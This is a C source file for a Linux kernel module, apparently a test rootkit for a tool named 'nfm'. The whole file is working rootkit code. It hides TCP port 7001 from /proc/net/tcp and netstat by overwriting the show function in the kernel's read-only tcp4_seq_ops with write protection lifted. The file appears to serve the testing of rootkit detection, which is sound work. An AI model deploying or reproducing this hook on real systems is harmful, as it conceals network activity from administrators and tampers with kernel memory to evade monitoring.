// Test rootkit: hides TCP port 7001 from /proc/net/tcp (what netstat reads) by
// pointing tcp4_seq_ops.show at its own filter, written into the kernel's
// read-only data with CR0.WP lifted (nfm_rk.h).
#include <linux/module.h>
#include <linux/seq_file.h>
#include <net/sock.h>

#include "nfm_rk.h"

static struct seq_operations* ops;
static int (*original_show)(struct seq_file*, void*);

static int hooked_show(struct seq_file* seq, void* v) {
  if (v != SEQ_START_TOKEN && ((struct sock*)v)->sk_num == 7001) return 0;
  return original_show(seq, v);
}

static int __init hook_init(void) {
  ops = (struct seq_operations*)nfm_rk_lookup("tcp4_seq_ops");
  if (!ops) return -ENOENT;
  original_show = ops->show;
  nfm_rk_write_protected((void**)&ops->show, hooked_show);
  pr_info("nfm_rk_hook_proc: tcp4_seq_ops.show hooked\n");
  return 0;
}

static void __exit hook_exit(void) {
  nfm_rk_write_protected((void**)&ops->show, original_show);
}

module_init(hook_init);
module_exit(hook_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("nfm test rootkit: /proc/net/tcp seq_operations hook");
